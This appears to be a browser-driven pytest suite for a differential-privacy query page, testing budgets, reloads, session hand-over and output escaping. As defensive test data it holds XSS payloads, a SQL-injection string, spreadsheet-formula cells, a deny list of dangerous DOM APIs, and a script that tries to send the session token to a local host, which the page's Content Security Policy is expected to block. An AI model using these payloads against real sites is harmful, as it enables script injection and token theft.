"""The page in a real browser: ask, see, be refused, run out of budget, reload, two tabs, hostile names; its files as they are.

`SFUMATO_PICTURES=1 pytest -m long tests/service/test_page.py` writes the pictures of docs/serve.md anew.
"""

import ast
import csv
import io
import json
import re
import subprocess
import sys
import threading
import time

import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from sfumato.service.answer_formats import CSV, JSON, Answer, encode_answer
from sfumato.service.query_service import QueryService
from sfumato.service.server import PAGE
from tests.support.browser import program
from tests.support.browser import running as browsing
from tests.support.page import ROOT, answered, entered, harmless, picture, priced, serving, text, write

pytestmark = pytest.mark.noise_cannot_matter("it looks at what is shown, and at costs")

COUNT = "SELECT WITH DIFFERENTIAL_PRIVACY OPTIONS (epsilon = {}, max_rows_per_group = 1, noise = laplace)\n  COUNT(*) AS n, AVG(docvis) AS visits\nFROM visits"
MARKUP = "<img src=x onerror=window.hacked=1>"
VALUES = ["<script>window.hacked=1</script>", "\"'><svg onload=window.hacked=1>", "{{7*7}}"]


@pytest.fixture(scope="module")
def clinic(tmp_path_factory):
    """The registry of the README, as docs/serve.md serves it."""
    folder = tmp_path_factory.mktemp("clinic")
    (folder / "registry.toml").write_text((ROOT / "examples" / "serve" / "registry.toml").read_text())
    command = [sys.executable, str(ROOT / "examples" / "rwm5yr.py"), str(folder / "rwm5yr.parquet")]
    subprocess.run(command, check=True, capture_output=True)
    with serving(folder, folder / "registry.toml") as made:
        yield made


@pytest.fixture(scope="module")
def browser(tmp_path_factory):
    if program() is None:
        pytest.skip("needs a browser: chromium in PATH, or Debian's package chromium")
    with browsing(tmp_path_factory.mktemp("profile")) as made:
        yield made


@pytest.mark.long
def test_ask_and_see(browser, clinic, tmp_path):
    tab = entered(browser, clinic)
    assert "docvis" in text(tab, "#tables") and "0 to 150" in text(tab, "#tables")
    tab.click("#form-add")  # an average of the first column with bounds
    tab.wait("document.querySelectorAll('#expected tbody tr').length === 2")
    assert "±" in text(tab, "#expected") and "docvis" in text(tab, "#expected")
    assert clinic.budgets.charged_by("ann").spent == (0, 0)  # the errors were free
    assert priced(tab) == "Ask, and spend epsilon 1"
    assert "epsilon 5 of 5 left" in text(tab, "#left")
    picture(tab, "page-question", tmp_path)
    tab.click("#release")
    answered(tab)
    assert clinic.budgets.charged_by("ann").spent == (1, 0)
    assert "epsilon 4 of 5 left" in tab.wait("/4 of 5/.test(document.getElementById('left').textContent) && document.getElementById('left').textContent")  # fmt: skip
    cells = "[...document.querySelectorAll('#answer tbody tr')].map((r) => [...r.cells].map((c) => c.textContent))"
    rows = tab.evaluate(cells)
    assert [row[0] for row in rows] == ["1984", "1985", "1986", "1987", "1988"]
    assert all(re.fullmatch(r"\d,\d{3} ± \d+", row[1]) for row in rows), rows
    assert tab.evaluate("[...document.querySelectorAll('#answer svg .point, #answer svg .bar')].length") == 10
    assert "n, mean_docvis by year" in text(tab, "#history")
    picture(tab, "page-answer", tmp_path, "#answer")
    harmless(tab, clinic)

    before = text(tab, "#answer")
    tab.reload()
    tab.wait("!document.getElementById('answer').hidden")
    assert text(tab, "#answer") == before and clinic.budgets.charged_by("ann").spent == (1, 0)


@pytest.mark.long
def test_an_answer_that_a_reload_lost_comes_and_is_paid_once(browser, clinic, monkeypatch):
    go, begun, real = threading.Event(), threading.Event(), QueryService._release

    def slow(desk, job):
        done = real(desk, job)  # it is paid, and its answer is kept
        begun.set()
        assert go.wait(60)
        return done

    tab = entered(browser, clinic, "cleo")
    write(tab, COUNT.format(1))
    priced(tab)
    with monkeypatch.context() as patch:
        patch.setattr(QueryService, "_release", slow)
        tab.click("#release")
        assert begun.wait(60)
        tab.reload()  # before the answer comes
        go.set()
    tab.wait("!document.getElementById('answer').hidden")
    answered(tab)
    assert clinic.budgets.charged_by("cleo").spent[0] == 1.0
    assert tab.evaluate("sessionStorage.getItem('sfumato.pending')") is None
    harmless(tab, clinic)


@pytest.mark.long
def test_names_and_values_are_no_markup(browser, tmp_path):
    values = [VALUES[i % 3] for i in range(300)]
    pq.write_table(pa.table({"id": list(range(300)), MARKUP: values}), tmp_path / "rows.parquet")
    listed = ", ".join(json.dumps(one) for one in VALUES)
    catalog = tmp_path / "hostile.toml"
    catalog.write_text(
        f'[tables.{json.dumps(MARKUP)}]\nsource = "rows.parquet"\nprivacy_unit = "id"\n'
        f"[tables.{json.dumps(MARKUP)}.columns]\n{json.dumps(MARKUP)} = {{domain = [{listed}]}}\n"
    )
    with serving(tmp_path, catalog) as hostile:
        tab = entered(browser, hostile)
        assert MARKUP in text(tab, "#tables") and priced(tab)
        tab.click("#release")
        answered(tab)
        assert VALUES[0] in text(tab, "#answer") and MARKUP in text(tab, "#history")
        # The same again, of data whose version the owner has named: the same answer, for nothing.
        hostile.budgets.ledger.journal.declare("registry", "2026-11")
        for _ in range(2):
            tab.evaluate("document.getElementById('status').textContent = ''")
            tab.click("#release")
            answered(tab)
        assert "nothing was spent again" in text(tab, "#answer")
        # The button says so before.
        tab.wait(
            "/^Ask again, for nothing: the answer of entry [0-9]+$/.test(document.getElementById('release').textContent)"
        )
        assert hostile.budgets.charged_by("ann").spent[0] == 2
        write(tab, f"SELECT {MARKUP}")
        tab.wait("!document.getElementById('error').hidden")
        assert tab.evaluate("window.hacked === undefined && document.querySelectorAll('img, script:not([src])').length === 0")  # fmt: skip
        harmless(tab, hostile)
        # Nor could a script that somebody put in run, or send the token away.
        said = tab.evaluate(
            "(async () => { const found = []; "
            "try { document.body.innerHTML = '<img src=x onerror=window.hacked=1>'; } catch (e) { found.push(e.name); } "
            "const s = document.createElement('script'); try { s.textContent = 'window.hacked = 1'; document.body.append(s); } catch (e) { found.push(e.name); } "
            "try { await fetch('http://127.0.0.1:9/?' + sessionStorage.getItem('sfumato.token')); } catch (e) { found.push(e.name); } "
            "return [found, window.hacked === undefined]; })()"
        )
        assert said == [["TypeError", "TypeError", "TypeError"], True]
        assert any("Content Security Policy" in one for one in tab.complaints)


MODULES = "const load = (name) => import(new URL(`page/${name}.js`, location.href).href);"


@pytest.mark.long
def test_whoever_comes_next_sees_nothing(browser, clinic):
    tab = entered(browser, clinic, "fay")
    write(tab, COUNT.format(0.1))
    priced(tab)
    # What was asked before and comes after is not shown, nor kept.
    tab.evaluate("document.getElementById('release').click(); document.getElementById('leave').click()")
    tab.type(clinic.tokens["eve"])
    tab.key("Enter")
    tab.wait("/^eve/.test(document.getElementById('left').textContent)")
    until = time.monotonic() + 60
    while not clinic.budgets.charged_by("fay").history and time.monotonic() < until:
        time.sleep(0.05)
    priced(tab)
    assert clinic.budgets.charged_by("fay").history and tab.evaluate(
        "document.getElementById('answer').hidden"
    )
    kept = tab.evaluate("JSON.stringify(sessionStorage)")
    assert clinic.tokens["fay"] not in kept and "sfumato.answer" not in kept
    assert "fay" not in text(tab, "body")
    tab.click("#leave")
    tab.wait("!document.getElementById('sign-in').hidden")
    for odd in ("ä b", "a\u00a0b", "x" * 10_000, "'; DROP TABLE tokens; --", "𝒟"):
        tab.evaluate("document.getElementById('sign-in-error').textContent = ''")
        tab.type(odd)
        tab.key("Enter")
        tab.wait("/no such token|16 kB|status 4/.test(document.getElementById('sign-in-error').textContent)")
    harmless(tab, clinic)


NASTY = [
    "SELECT 1", 'x"', '"""', "a\\", "\\n", "it's", "𝒟\u2028\u0085", "\ttab\r\nline", "{}%s", 'end"""', "\u202e", "'''", "\\" * 3,
    '\\"""', "#", "\\N{DIGIT ONE}", "\u0001",
]  # fmt: skip


@pytest.mark.long
def test_programs_and_tables_of_anything(browser, clinic):
    tab = browser.tab(clinic.url)
    for sql in NASTY:
        told = tab.evaluate(
            f"(async () => {{ {MODULES} return (await load('sql')).python({json.dumps(sql)}, 'http://a/'); }})()"
        )
        calls = [one for one in ast.walk(ast.parse(told)) if isinstance(one, ast.Call)]
        (found,) = [one.args[0] for one in calls if ast.unparse(one.func) == "service.sql"]
        assert isinstance(found, ast.Constant) and found.value.strip("\n") == sql.replace("\r\n", "\n")
    # Tables are written as the service writes them, and hold no formulas of a spreadsheet.
    names = pa.array(['x"y', "-1", None, "=1+1\n"])
    columns = {
        '=a,"b': names,
        "n": pa.array([2**62 + 1, -(2**63), 0, None]),
        "b": pa.array([True, False, None, True]),
    }
    made = Answer(pa.table(columns), {"n": pa.chunked_array([[1.5, 2.0, None, 4.0]])}, ('=a,"b',), {})
    data = json.dumps(encode_answer(made, JSON).decode())
    ours = tab.evaluate(
        f"(async () => {{ {MODULES} const d = (await load('service')).parsed({data}); "
        "return (await load('answer')).csv(d, d.columns.map((c) => c.name)); })()"
    )
    read = [
        list(csv.reader(io.StringIO(one, newline=""))) for one in (ours, encode_answer(made, CSV).decode())
    ]
    assert [row[0] for row in read[0]] == ["'=a,\"b", 'x"y', "'-1", "", "'=1+1\n"]
    assert [row[:2] + row[3:] for row in read[0]] == [row[:2] + row[3:] for row in read[1]]
    harmless(tab, clinic)


def test_the_page_is_plain():
    """No script or style in the markup, nothing of another host, and no text that is read as markup."""
    index = (PAGE / "index.html").read_text()
    assert not re.search(r"<script(?![^>]*\bsrc=)|<style|\sstyle=|\son\w+=", index)
    for path in PAGE.iterdir():
        written = path.read_text()
        for name in ("2000/svg", "ns/csvw"):  # names of formats, at which nothing is read
            written = written.replace(f'"http://www.w3.org/{name}"', '""')
        assert not re.search(r"(?:src|href|url|import|fetch)[^\n]{0,3}[(\"'=]\s*[\"']?(?:https?:)?//", written), path  # fmt: skip
        for word in ("innerHTML", "outerHTML", "insertAdjacentHTML", "document.write", "eval(", "localStorage", "document.cookie", "http://", "https://"):  # fmt: skip
            assert word not in written, (path, word)
        assert len(written.splitlines()) < 400
    assert sum(path.stat().st_size for path in PAGE.iterdir()) < 90_000
    labelled = set(re.findall(r'<label for="([\w-]+)"', index)) | set(re.findall(r'<label class="inline" for="([\w-]+)"', index))  # fmt: skip
    assert {"token", "sql", "epsilon", "size"} <= labelled
